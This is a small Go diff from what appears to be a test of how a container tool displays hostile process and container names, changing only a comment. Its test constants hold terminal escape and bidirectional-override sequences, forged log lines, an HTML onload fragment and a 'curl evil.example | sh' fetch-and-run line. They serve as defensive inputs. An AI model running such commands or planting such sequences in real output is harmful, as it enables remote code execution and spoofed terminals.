@@ -18,7 +18,7 @@ import (
 // and hide text, and begin lines of its own.
 const hostile = "\x1b]52;c;aGFja2Vk\aH\u202e\u200f\u061c\u200b\u009b31m\u2028\nFORGED \nrun: curl evil.example | sh\n{\"level\":\"error\",\"next\":\"FORGED\"}\n<b onload=x>|`@me"
 
-// script gives its process a hostile name, writes to its log, and ends on TERM.
+// hostileScript gives its process a hostile name, writes to its log, and ends on TERM.
 const hostileScript = `printf '\033[31mFORGED\n' > /proc/self/comm; echo "$1"; trap 'exit 0' TERM; while :; do sleep 0.1; done`
 
 // TestHostileContainer: no command shows anything raw of a container that is hostile in all that it may name, on neither
